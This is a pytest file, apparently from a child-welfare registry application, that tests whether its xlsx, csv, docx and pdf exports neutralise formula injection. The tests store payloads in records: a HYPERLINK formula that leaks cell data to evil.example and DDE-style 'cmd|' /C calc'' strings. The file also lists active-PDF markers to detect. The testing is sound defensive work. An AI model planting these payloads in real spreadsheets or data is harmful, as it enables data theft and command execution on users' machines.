"""Formula injection (issue 15 item 1): names and notes that start like a formula, through every file
vitreem writes, each file opened for real.

A record typed before names were checked, or a free-text field (note, village, summary, place) can
hold `=HYPERLINK(…)`, `+cmd|…`, `-2+3…` or `@SUM(…)`. In every .xlsx the text must be a string cell
(no formula anywhere in the workbook's XML), in every .csv the cell must carry OWASP's leading quote
(and import back to the same text), in every .docx/.pdf the text must be there verbatim, with no field
code nor any active content. The records are given such values directly in the database, as old data
would have them: what is tested here is the writers, not the forms' validation.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from django.utils import timezone

from conftest import login
from vitreem.core.cells import FORMULA_START, csv_cell, csv_unquote
from vitreem.stats.tests.conftest import demo, demo_province  # noqa: F401 — the small demo province

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
CMD = "+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
FULLWIDTH = "\uff1d1+1"
PAYLOADS = [HYPERLINK, CMD, MINUS, AT, TAB, FULLWIDTH]


def _squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


# ---------------------------------------------------------------- what "neutralised" means per format

def assert_xlsx_safe(data: bytes, expected: list[str]) -> None:
    from openpyxl import load_workbook

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                assert not re.search(r"<f[ >]", xml), f"a formula in {name}"
            assert not name.startswith("xl/externalLinks"), "an external link part"
    wb = load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    values.append(cell.value)
    joined = _squash("\n".join(values))
    for text in expected:
        assert _squash(text) in joined, f"{text!r} not in the workbook"


def assert_csv_safe(data: bytes, expected: list[str]) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), f"a cell a spreadsheet would run: {cell!r}"
    cells = {cell for row in rows for cell in row}
    for payload in expected:
        assert "'" + payload in cells, f"{payload!r} not written as '{payload!r}"
        assert csv_unquote("'" + payload) == payload
    return rows


def assert_docx_safe(data: bytes, expected: list[str]) -> None:
    from docx import Document

    with zipfile.ZipFile(io.BytesIO(data)) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.endswith(".xml"))
    assert "w:instrText" not in xml and "w:fldSimple" not in xml, "a Word field"
    assert "evil.example" not in re.sub(r"<w:t[^>]*>[^<]*</w:t>", "", xml), "the link outside a text run"
    word = Document(io.BytesIO(data))
    body = [p.text for p in word.paragraphs]
    body += [cell.text for table in word.tables for row in table.rows for cell in row.cells]
    joined = _squash("\n".join(body))
    for text in expected:
        assert _squash(text) in joined, f"{text!r} not in the document"


def assert_pdf_safe(data: bytes, expected: list[str]) -> None:
    from pypdf import PdfReader

    assert data.startswith(b"%PDF")
    for marker in (b"/JavaScript", b"/JS ", b"/Launch", b"/URI", b"/SubmitForm", b"/OpenAction"):
        assert marker not in data, marker
    text = _squash("".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages))
    for payload in expected:
        assert _squash(payload) in text, f"{payload!r} not in the PDF"


def test_the_csv_rule_itself():
    assert [csv_cell(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert csv_cell("Nguyễn Thị Hoa") == "Nguyễn Thị Hoa" and csv_cell(-3) == -3 and csv_cell(2015) == 2015
    assert csv_cell("\r=1") == "'\r=1" and csv_cell("Hoa-Lan") == "Hoa-Lan"
    assert csv_unquote("'Tên") == "'Tên"  # a quote before ordinary text is the text's own


# ---------------------------------------------------------------- the records

@pytest.fixture
def poisoned(demo):  # noqa: F811 — pytest fixture from the stats conftest
    """A child of commune A with an allowance and a case, its text fields set to formula payloads."""
    from vitreem.accounts.models import MemberUnit
    from vitreem.benefits.models import Allowance, AllowanceStatus
    from vitreem.cases.models import Case
    from vitreem.registry.models import Child, Ethnicity, Guardian

    scope = [demo.commune_a.pk, demo.commune_a_2025.pk]
    case = Case.objects.filter(unit_id__in=scope).order_by("pk").first()
    assert case is not None
    child = case.child
    Child.objects.filter(pk=child.pk).update(full_name=HYPERLINK, note=MINUS, village=AT)
    Guardian.objects.filter(child=child).delete()
    Guardian.objects.create(child=child, full_name=CMD, relationship="mother", is_primary=True)
    Case.objects.filter(pk=case.pk).update(summary=CMD, place=AT, reporter_name=MINUS)
    allowance = (Allowance.objects.filter(unit_id__in=scope, status=AllowanceStatus.ACTIVE)
                 .select_related("child").order_by("pk").first())
    assert allowance is not None
    Child.objects.filter(pk=allowance.child_id).update(full_name=HYPERLINK)
    kinh = Ethnicity.objects.get(code="01")
    Ethnicity.objects.filter(pk=kinh.pk).update(name=AT)
    MemberUnit.objects.filter(pk=MemberUnit.objects.order_by("pk").first().pk).update(name=HYPERLINK)

    class Poisoned:
        pass

    Poisoned.case = Case.objects.select_related("child", "unit").get(pk=case.pk)  # the values as stored now
    Poisoned.child, Poisoned.allowance = Poisoned.case.child, allowance
    return Poisoned


# ---------------------------------------------------------------- every export

def test_child_list_xlsx_and_csv(demo, poisoned):  # noqa: F811
    client = login(demo.users["commune"])
    xlsx = client.get(reverse("imports:export") + "?format=xlsx")
    assert xlsx.status_code == 200
    data = b"".join(xlsx.streaming_content)
    assert_xlsx_safe(data, [HYPERLINK, CMD, MINUS, AT])
    response = client.get(reverse("imports:export") + "?format=csv")
    assert_csv_safe(b"".join(response.streaming_content), [HYPERLINK, CMD, MINUS, AT])


def test_a_neutralised_csv_imports_back_to_the_same_text(demo, poisoned, tmp_path, settings):  # noqa: F811
    """The leading quote is for spreadsheets: vitreem's importer reads the export back unchanged."""
    from vitreem.imports.reading import table_read

    client = login(demo.users["commune"])
    data = b"".join(client.get(reverse("imports:export") + "?format=csv").streaming_content)
    path = tmp_path / "ds.csv"
    path.write_bytes(data)
    table = table_read(path)
    cells = {c for _n, row in table.data_rows() for c in row}
    assert {HYPERLINK, CMD, MINUS, AT} <= cells


def test_cli_export_csv(demo, poisoned, tmp_path):  # noqa: F811
    from django.core.management import call_command

    out = tmp_path / "ds.csv"
    call_command("export_children", str(out), "--unit", "2025:23500", "--as", "province")
    assert_csv_safe(out.read_bytes(), [HYPERLINK, CMD])


def test_import_error_report(demo, settings, tmp_path):  # noqa: F811
    """The error report copies the file's own headers and cells: a hostile upload stays text."""
    from vitreem.imports.services import import_create, import_execute

    settings.MEDIA_ROOT = tmp_path
    worker = demo.users["commune"]
    rows = [["Họ và tên", "Ngày sinh", "Giới tính", "=1+2"], [HYPERLINK, "32/13/2015", "Nữ", CMD]]
    content = "\n".join(",".join('"' + c.replace('"', '""') + '"' for c in r) for r in rows).encode()
    batch = import_create(actor=worker, filename="ds.csv", content=content, default_unit=demo.commune_a_2025)
    import_execute(actor=worker, batch=batch)
    batch.refresh_from_db()
    assert batch.result["errors"]
    response = login(worker).get(reverse("imports:errors", args=[batch.pk]))
    assert response.status_code == 200
    assert_xlsx_safe(b"".join(response.streaming_content), [HYPERLINK, CMD, "=1+2"])


def test_payroll_xlsx(demo, poisoned):  # noqa: F811
    month = timezone.localdate().replace(day=1)
    client = login(demo.users["province"])
    response = client.get(reverse("benefits:payroll_xlsx", args=[f"{month:%Y-%m}"]) + "?unit=2025:23500")
    assert response.status_code == 200, response.content[:300]
    assert_xlsx_safe(response.content, [HYPERLINK])


def test_case_forms_docx_and_pdf(demo, poisoned):  # noqa: F811
    from vitreem.cases.documents import document_render

    case = poisoned.case
    data, _name, _type = document_render(case=case, form="01", fmt="docx")
    assert_docx_safe(data, [HYPERLINK, CMD, AT])
    data, _name, _type = document_render(case=case, form="01", fmt="pdf")
    assert_pdf_safe(data, [CMD, AT])
    client = login(demo.users["commune"])
    response = client.get(reverse("cases:document", args=[case.pk, "01", "docx"]))
    assert response.status_code == 200
    assert_docx_safe(response.content, [HYPERLINK])


def test_statistical_tables_and_annual_report(demo, poisoned):  # noqa: F811
    from vitreem.places.models import AdminUnit
    from vitreem.reports.services import report_build

    AdminUnit.objects.filter(pk=demo.district.pk).update(name=MINUS)
    data, _params = report_build(year=2022, unit=demo.province, fmt="xlsx")
    assert_xlsx_safe(data, [AT, MINUS])
    data, _params = report_build(year=2022, unit=demo.province, fmt="docx")
    assert_docx_safe(data, [MINUS])
    data, _params = report_build(year=2022, unit=demo.province, fmt="pdf")
    assert_pdf_safe(data, [MINUS])


def test_every_file_writer_goes_through_the_rule():
    """No writer in the code calls XlsxWriter's write()/write_row()/merge_range() with data, nor csv.writer
    without csv_cell: a new export cannot slip past the rule unnoticed."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent / "vitreem"
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "cells.py":
            continue
        source = path.read_text(encoding="utf-8")
        for n, line in enumerate(source.splitlines(), start=1):
            if re.search(r"\b(ws|sheet|worksheet)\.(write|write_row|write_column)\(", line) or \
                    re.search(r"\.merge_range\(", line):
                offenders.append(f"{path.relative_to(root)}:{n}: {line.strip()}")
            if "csv.writer(" in line and "csv_cell" not in source:
                offenders.append(f"{path.relative_to(root)}:{n}: csv without csv_cell")
    assert offenders == [], "\n".join(offenders)
